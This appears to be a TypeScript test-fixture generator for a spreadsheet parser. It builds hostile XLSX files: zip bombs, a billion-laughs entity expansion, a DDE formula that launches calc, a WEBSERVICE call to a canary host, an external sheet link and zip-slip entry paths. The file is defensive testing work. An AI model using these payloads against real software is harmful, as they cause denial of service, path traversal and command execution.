import { canary, type HostileFile, utf8 } from './hostile-file.ts'
import { bombSize, packedBomb, writeZip, type ZipEntry } from './zip-writer.ts'

const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const links = (inside: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const sheetHead = `<?xml version="1.0"?><worksheet xmlns="${main}">`

const entry = (name: string, text: string): ZipEntry => ({ name, content: utf8(text) })

/** The parts of a workbook around its sheets. */
function around(sheets: number, extra: ZipEntry[] = []): ZipEntry[] {
  const list = Array.from({ length: sheets }, (_, n) => `<sheet name="S${n + 1}" sheetId="${n + 1}" r:id="r${n + 1}"/>`)
  const to = Array.from(
    { length: sheets },
    (_, n) => `<Relationship Id="r${n + 1}" Type="${office}/worksheet" Target="worksheets/sheet${n + 1}.xml"/>`,
  )
  return [
    entry('[Content_Types].xml', types),
    entry('_rels/.rels', links(`<Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/>`)),
    entry(
      'xl/workbook.xml',
      `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${office}"><sheets>${list.join('')}</sheets></workbook>`,
    ),
    entry('xl/_rels/workbook.xml.rels', links(to.join(''))),
    ...extra,
  ]
}

const sheet = (inside: string): ZipEntry => entry('xl/worksheets/sheet1.xml', `${sheetHead}${inside}</worksheet>`)
const cell = (address: string, text: string) => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`
const workbook = (inside: string, extra: ZipEntry[] = []): Uint8Array => writeZip([...around(1, extra), sheet(inside)])

function column(index: number): string {
  return index < 26 ? String.fromCharCode(65 + index) : column(Math.floor(index / 26) - 1) + column(index % 26)
}

function manyColumns(): string {
  const cells = (row: number) => Array.from({ length: 16_384 }, (_, n) => cell(`${column(n)}${row}`, `v${n}`)).join('')
  return `<sheetData>${[1, 2, 3].map((row) => `<row r="${row}">${cells(row)}</row>`).join('')}</sheetData>`
}

function manyRows(count: number): string {
  let rows = ''
  for (let row = 1; row <= count; row += 1)
    rows += `<row r="${row}"><c r="A${row}"><v>${row}</v></c><c r="B${row}"><v>7</v></c></row>`
  return `<sheetData>${rows}</sheetData>`
}

/** A workbook of one sheet with these rows; cells that are plain figures are numbers. */
export function tableWorkbook(rows: readonly (readonly string[])[]): Uint8Array {
  const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
  const of = (text: string, address: string): string =>
    /^\d{1,12}(?:\.\d{1,4})?$/.test(text) ? `<c r="${address}"><v>${text}</v></c>` : cell(address, escaped(text))
  const written = rows.map(
    (row, at) => `<row r="${at + 1}">${row.map((text, n) => of(text, `${column(n)}${at + 1}`)).join('')}</row>`,
  )
  return workbook(`<sheetData>${written.join('')}</sheetData>`)
}

/** A sheet whose one cell unpacks to hundreds of megabytes. */
function bomb(claims?: number): Uint8Array {
  const parts = [
    `${sheetHead}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>`,
    'a',
    400_000_000,
    '</t></is></c></row></sheetData></worksheet>',
  ] as const
  const part = { name: 'xl/worksheets/sheet1.xml', content: packedBomb(...parts), unpacked: bombSize(...parts) }
  return writeZip([...around(1), claims === undefined ? part : { ...part, claims }])
}

const sharedStrings = (): ZipEntry =>
  entry(
    'xl/sharedStrings.xml',
    `<?xml version="1.0"?><sst xmlns="${main}"><si><t>${'long '.repeat(200_000)}</t></si></sst>`,
  )

const entities = (): string => {
  const levels = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  return `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">${levels}]><worksheet xmlns="${main}"><sheetData><row r="1">${cell('A1', '&l12;')}</row></sheetData></worksheet>`
}

/** Workbooks that claim, hold or refer to too much. */
export const workbooks: HostileFile[] = [
  { name: 'columns.xlsx', about: '16,384 columns', make: () => workbook(manyColumns()) },
  {
    name: 'far-apart.xlsx',
    about: 'two cells a million rows apart',
    make: () =>
      workbook(
        `<sheetData><row r="1">${cell('A1', 'first')}</row><row r="1048576">${cell('XFD1048576', 'last')}</row></sheetData>`,
      ),
  },
  {
    name: 'claims-all.xlsx',
    about: 'claims every cell there can be',
    make: () =>
      workbook(`<dimension ref="A1:XFD1048576"/><sheetData><row r="1">${cell('A1', 'only one')}</row></sheetData>`),
  },
  {
    name: 'one-merge.xlsx',
    about: 'one cell over the whole sheet',
    make: () =>
      workbook(
        `<sheetData><row r="1">${cell('A1', 'all')}</row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`,
      ),
  },
  { name: 'rows.xlsx', about: '300,000 rows', make: () => workbook(manyRows(300_000)) },
  { name: 'bomb.xlsx', about: '400 MB in one cell, packed to 400 KB', make: () => bomb() },
  { name: 'lying-bomb.xlsx', about: 'the same, claiming 1,000 bytes', make: () => bomb(1000) },
  {
    name: 'same-string.xlsx',
    about: 'a megabyte that 50,000 cells refer to',
    make: () => {
      const rows = Array.from(
        { length: 50_000 },
        (_, n) => `<row r="${n + 1}"><c r="A${n + 1}" t="s"><v>0</v></c></row>`,
      )
      const to = links(
        `<Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${office}/sharedStrings" Target="sharedStrings.xml"/>`,
      )
      const parts = around(1).filter(({ name }) => name !== 'xl/_rels/workbook.xml.rels')
      return writeZip([
        ...parts,
        entry('xl/_rels/workbook.xml.rels', to),
        sharedStrings(),
        sheet(`<sheetData>${rows.join('')}</sheetData>`),
      ])
    },
  },
  {
    name: 'entities.xlsx',
    about: 'entities that grow to terabytes',
    make: () => writeZip([...around(1), entry('xl/worksheets/sheet1.xml', entities())]),
  },
  {
    name: 'thousand-sheets.xlsx',
    about: '1,000 sheets',
    make: () =>
      writeZip([
        ...around(1000),
        ...Array.from({ length: 1000 }, (_, n) =>
          entry(
            `xl/worksheets/sheet${n + 1}.xml`,
            `${sheetHead}<sheetData><row r="1">${cell('A1', `Sheet ${n}`)}</row></sheetData></worksheet>`,
          ),
        ),
      ]),
  },
  {
    name: 'formulas.xlsx',
    about: 'formulas that call programs and the network',
    make: () =>
      workbook(
        `<sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("${canary}/x")</f><v>=cmd|'/c calc'!A1</v></c><c r="B1"><f>B1+1</f><v>1</v></c></row></sheetData>`,
      ),
  },
  {
    name: 'elsewhere.xlsx',
    about: 'sheets that lie outside the archive',
    make: () => {
      const to = links(
        `<Relationship Id="r1" Type="${office}/worksheet" TargetMode="External" Target="${canary}/sheet.xml"/>`,
      )
      return writeZip([
        ...around(1).filter(({ name }) => name !== 'xl/_rels/workbook.xml.rels'),
        entry('xl/_rels/workbook.xml.rels', to),
      ])
    },
  },
  {
    name: 'no-sheets.xlsx',
    about: 'a workbook without sheets',
    make: () => writeZip(around(0)),
  },
  {
    name: 'names-outside.xlsx',
    about: 'entries named after files elsewhere',
    make: () =>
      writeZip([
        ...around(1),
        sheet(`<sheetData><row r="1">${cell('A1', 'inside')}</row></sheetData>`),
        entry('../../../../hostile-was-here', 'x'),
        entry('/etc/hostile-was-here', 'x'),
      ]),
  },
]
